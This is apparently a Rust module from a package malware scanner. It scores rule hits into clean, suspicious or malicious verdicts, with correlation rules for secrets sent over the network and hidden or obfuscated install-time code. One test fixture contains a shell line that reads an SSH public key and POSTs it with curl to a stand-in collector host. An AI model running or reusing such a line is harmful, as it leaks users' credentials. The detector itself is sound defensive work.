//! From rule matches to a verdict. A file scores the weights of the distinct rules it matches,
//! threats counting double on the install or import path; capabilities count only beside a
//! threat, or when they correlate into one within the file (secrets or a fingerprint reaching
//! the network, a hidden process started at install). A package is as bad as its worst file.

use crate::rules::{Hit, Kind, Place, Rule};
use scioc_model::Behaviour;
use serde::Serialize;

/// At or above this, a file is malicious (fixed before measuring; see docs/detection.md).
pub const MALICIOUS_AT: u32 = 10;
/// At or above this, a file is suspicious.
pub const SUSPICIOUS_AT: u32 = 5;

/// The analyser's word on a package or a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    /// Nothing a reviewer needs to see.
    Clean,
    /// A threat without what would make it certain: worth a look.
    Suspicious,
    /// Threats that correlate: malicious.
    Malicious,
}

impl Verdict {
    /// Lower-case name.
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Clean => "clean",
            Verdict::Suspicious => "suspicious",
            Verdict::Malicious => "malicious",
        }
    }
}

/// The correlation rules (SA-100…), which the verdict adds when capabilities meet in one file.
pub fn correlations() -> impl Iterator<Item = &'static Rule> {
    [&SENDS_SECRETS, &SENDS_FINGERPRINT, &HIDDEN_AT_INSTALL, &OBFUSCATED_AT_INSTALL].into_iter()
}

/// A correlation of capabilities into a threat, within one file.
pub(crate) static SENDS_SECRETS: Rule = Rule {
    id: "SA-100",
    name: "secrets sent over the network",
    kind: Kind::Threat,
    behaviour: Behaviour::Infostealer,
    weight: 8,
};
/// A host fingerprint sent at install.
pub(crate) static SENDS_FINGERPRINT: Rule = Rule {
    id: "SA-101",
    name: "host fingerprint sent at install",
    kind: Kind::Threat,
    behaviour: Behaviour::Probe,
    weight: 6,
};
/// A hidden process started at install beside a download.
pub(crate) static HIDDEN_AT_INSTALL: Rule = Rule {
    id: "SA-102",
    name: "hidden process started at install",
    kind: Kind::Threat,
    behaviour: Behaviour::Downloader,
    weight: 5,
};
/// Obfuscated code on the install path that runs or reaches out.
pub(crate) static OBFUSCATED_AT_INSTALL: Rule = Rule {
    id: "SA-103",
    name: "obfuscated code on the install path",
    kind: Kind::Threat,
    behaviour: Behaviour::Unknown,
    weight: 5,
};

/// Threats that alone, with capabilities beside them, make a file suspicious but not malicious:
/// SSH clients, package managers and cloud tools name where credentials live because they use
/// them; a thief also sends them, which SA-100 (secrets sent) says.
const NOT_ALONE: &[&str] = &["SA-014"];

/// The correlations, added to a file's hits.
pub(crate) fn correlate(hits: &mut Vec<Hit>, place: Place) {
    let has = |id: &str| hits.iter().find(|h| h.rule.id == id).map(|h| h.line);
    let network = has("SA-002").or(has("SA-011")).or(has("SA-012")).or(has("SA-013"));
    // Where a thief sends: a webhook, a callback host, a bare IP, a paste or drop host. SSH
    // clients, cloud SDKs and package managers read credentials and talk to their own servers;
    // they do not send there, and not from an install hook.
    let drop_box = has("SA-011").or(has("SA-012")).or(has("SA-013")).or(has("SA-030"));
    let at_install = place.install || place.import;
    let mut added = Vec::new();
    let secrets = match (has("SA-005"), has("SA-014")) {
        (Some(line), _) if network.is_some() => Some(line),
        // An install has no business reading credentials and reaching the network at all.
        (_, Some(line)) if drop_box.is_some() || (place.install && network.is_some()) => Some(line),
        // A key in hand (a wallet's, a cloud's) posted to a drop box.
        _ if drop_box.is_some() => has("SA-032"),
        _ => None,
    };
    if let Some(line) = secrets {
        added.push(Hit::new(&SENDS_SECRETS, line, "reads secrets and sends them in the same file"));
    }
    if place.install
        && let (Some(line), Some(_)) = (has("SA-004"), network)
    {
        added.push(Hit::new(&SENDS_FINGERPRINT, line, "collects host details and reaches the network at install"));
    }
    if place.install
        && let (Some(line), Some(_), Some(_)) = (has("SA-010"), has("SA-003"), network)
    {
        added.push(Hit::new(&HIDDEN_AT_INSTALL, line, "starts a detached process and reaches the network at install"));
    }
    if at_install
        && let Some(line) = has("SA-006").or(has("SA-018"))
        && (network.is_some() || has("SA-003").is_some())
    {
        added.push(Hit::new(
            &OBFUSCATED_AT_INSTALL,
            line,
            "obfuscated code that runs programs or reaches the network at install",
        ));
    }
    hits.extend(added);
}

/// A file's score and the behaviour its gravest threat points to.
pub(crate) fn score(hits: &[Hit], place: Place) -> (u32, Option<Behaviour>) {
    let mut seen: Vec<&str> = Vec::new();
    let (mut threats, mut capabilities) = (0, 0);
    let mut gravest: Option<&Rule> = None;
    for h in hits {
        if seen.contains(&h.rule.id) {
            continue;
        }
        seen.push(h.rule.id);
        match h.rule.kind {
            Kind::Threat => {
                threats += if place.install || place.import { 2 * h.rule.weight } else { h.rule.weight };
                if gravest.is_none_or(|g| {
                    h.rule.weight > g.weight
                        || (h.rule.weight == g.weight && h.rule.behaviour.level() > g.behaviour.level())
                }) {
                    gravest = Some(h.rule);
                }
            }
            Kind::Capability => capabilities += h.rule.weight,
        }
    }
    if threats == 0 {
        // Capabilities alone never make a verdict.
        return (capabilities.min(SUSPICIOUS_AT - 1), None);
    }
    let threat_ids: Vec<&str> = seen
        .iter()
        .copied()
        .filter(|id| hits.iter().any(|h| h.rule.id == *id && h.rule.kind == Kind::Threat))
        .collect();
    if threat_ids.iter().all(|id| NOT_ALONE.contains(id)) {
        // Naming where secrets live, with nothing that takes them away, is suspicious at most.
        return ((threats + capabilities).min(MALICIOUS_AT - 1), gravest.map(|g| g.behaviour));
    }
    (threats + capabilities, gravest.map(|g| g.behaviour))
}

/// A package's score from threats across its files: each threat rule once, at its weight, when
/// at least two kinds of threat meet and one of them weighs 6 or more; else 0.
pub(crate) fn across<'a>(hits: impl Iterator<Item = &'a Hit>) -> u32 {
    let mut seen: Vec<&'static Rule> = Vec::new();
    for h in hits.filter(|h| h.rule.kind == Kind::Threat) {
        if !seen.iter().any(|r| r.id == h.rule.id) {
            seen.push(h.rule);
        }
    }
    if seen.len() >= 2 && seen.iter().any(|r| r.weight >= 6) { seen.iter().map(|r| r.weight).sum() } else { 0 }
}

/// The verdict a score gives.
pub(crate) fn of(score: u32) -> Verdict {
    if score >= MALICIOUS_AT {
        Verdict::Malicious
    } else if score >= SUSPICIOUS_AT {
        Verdict::Suspicious
    } else {
        Verdict::Clean
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::package::SourceFile;
    use crate::rules::{Ctx, fixture::INSTALL};

    fn correlated(path: &str, source: &str, place: Place) -> Vec<&'static str> {
        let file = SourceFile::new(path, source.as_bytes().to_vec(), false);
        let facts = crate::facts_of(&file);
        let mut hits = crate::rules::check(&Ctx { file: &file, facts: &facts, place, natives: &[] });
        correlate(&mut hits, place);
        hits.iter().map(|h| h.rule.id).collect()
    }

    #[test]
    fn an_install_script_reading_keys_and_reaching_the_network_sends_secrets() {
        let script = "a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d \"payload=$a\" https://collector.example/k\n";
        assert!(correlated("setup.sh", script, INSTALL).contains(&"SA-100"));
        // The same in library code sends nowhere suspicious: an SSH or cloud client at work.
        assert!(!correlated("setup.sh", script, Place::default()).contains(&"SA-100"));
    }

    /// An SSH client imported: it names keys and opens sockets, which is suspicious at most.
    #[test]
    fn naming_credentials_alone_is_not_a_verdict() {
        let place = Place { install: false, import: true };
        let client = "import socket, getpass, os\nkey = os.path.expanduser('~/.ssh/id_rsa')\ns = socket.socket()\nu = getpass.getuser()\n";
        let file = SourceFile::new("pkg/client.py", client.as_bytes().to_vec(), false);
        let facts = crate::facts_of(&file);
        let mut hits = crate::rules::check(&Ctx { file: &file, facts: &facts, place, natives: &[] });
        correlate(&mut hits, place);
        let (score, _) = score(&hits, place);
        assert!(hits.iter().any(|h| h.rule.id == "SA-014"));
        assert_eq!(of(score), Verdict::Suspicious, "score {score}");
    }
}
